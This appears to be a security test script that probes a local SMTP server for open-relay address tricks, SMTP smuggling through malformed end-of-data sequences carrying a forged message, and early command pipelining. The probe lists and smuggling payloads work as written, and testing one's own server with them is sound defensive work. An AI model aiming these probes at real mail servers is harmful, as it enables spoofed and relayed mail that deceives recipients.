"""What an attacker sends; prints JSON, judges nothing.

usage: hostile.py relay PORT DOMAIN           {"PROBE": "first reply that is not 2xx, or accepted"}
       hostile.py smuggle PORT RECIPIENT      {"VARIANT": "replies after DATA"}
       hostile.py talk PORT                   reply to a client that does not wait for the greeting's answers
Each smuggled message carries the header X-Smuggled; the carrier's subject is "carrier".
"""

import json, socket, sys

kind, port = sys.argv[1], int(sys.argv[2])


class Talk:
    def __init__(self):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=20)
        self.stream = self.socket.makefile("rb")
        self.reply()

    def reply(self):
        lines = []
        while True:
            try:
                line = self.stream.readline().decode("latin-1").rstrip()
            except OSError as cut:
                return f"cut: {cut}"
            lines.append(line)
            if line[3:4] != "-":
                return " / ".join(lines) or "closed"

    def ask(self, line):
        try:
            self.socket.sendall(line.encode() + b"\r\n")
        except OSError as cut:
            return f"cut: {cut}"
        return self.reply()


def relay(domain):
    outside = "victim@example.com"
    probes = [
        f"<{outside}>", f"<victim%example.com@{domain}>", f"<victim%example.com@[127.0.0.1]>", f'<"{outside}">',
        f'<"{outside}"@{domain}>', f'<"victim%example.com"@{domain}>', f"<@{domain}:{outside}>",
        f"<{outside}@{domain}>", f"<example.com!victim@{domain}>", f"<example.com!victim>", f"<victim%example.com>",
        f"<{outside}@[127.0.0.1]>", f"<{outside}@localhost>", f"<@[127.0.0.1]:{outside}>", f"<victim@[192.0.2.1]>",
        f"<{domain}!{outside}>", f"<victim@example.com.{domain}>", f"<@localhost:{outside}>", f"<{outside}@mail.{domain}>",
    ]
    senders = ["<stranger@example.net>", f"<ann@{domain}>", "<>", "<postmaster@localhost>", f"<root@mail.{domain}>"]
    result = {}
    for sender in senders:
        for probe in probes:
            talk = Talk()
            talk.ask("EHLO client.example.net")
            said = talk.ask(f"MAIL FROM:{sender}")
            if said.startswith("2"):
                said = talk.ask(f"RCPT TO:{probe}")
            result[f"{sender} {probe}"] = "accepted" if said.startswith("2") else said
            talk.socket.close()
    return result


def smuggle(recipient):
    ends = ["\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r.\r\n", "\r\n.\r", "\n.\r", "\r.\n", "\r\n\0.\r\n",
            "\n\n.\r\n", "\r\r\n.\r\r\n", "\r\n.\r\r\n"]
    result = {}
    for end in ends:
        talk = Talk()
        talk.ask("EHLO client.example.net")
        talk.ask("MAIL FROM:<stranger@example.net>")
        talk.ask(f"RCPT TO:<{recipient}>")
        talk.ask("DATA")
        forged = (
            f"MAIL FROM:<forged@example.org>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
            f"X-Smuggled: yes\r\nSubject: smuggled\r\n\r\nforged\r\n.\r\n"
        )
        body = f"From: stranger@example.net\r\nSubject: carrier\r\n\r\nfirst{end}{forged}"
        try:
            talk.socket.sendall(body.encode())
            talk.socket.settimeout(1)
            replies = [talk.reply()]
            while replies[-1] and not replies[-1].startswith(("cut", "closed")) and len(replies) < 6:
                replies.append(talk.reply())
        except OSError as cut:
            replies = [f"cut: {cut}"]
        result[repr(end)] = replies
        talk.socket.close()
    return result


def talk():
    bare = socket.create_connection(("127.0.0.1", port), timeout=20)
    bare.sendall(b"EHLO client.example.net\r\nMAIL FROM:<a@example.net>\r\nRCPT TO:<b@example.com>\r\nDATA\r\n")
    said = b""
    try:
        while chunk := bare.recv(4096):
            said += chunk
            if b" 5" in said or b"\n5" in said:
                break
    except OSError:
        pass
    return said.decode("latin-1")


print(json.dumps({"relay": relay, "smuggle": smuggle, "talk": talk}[kind](*sys.argv[3:])))
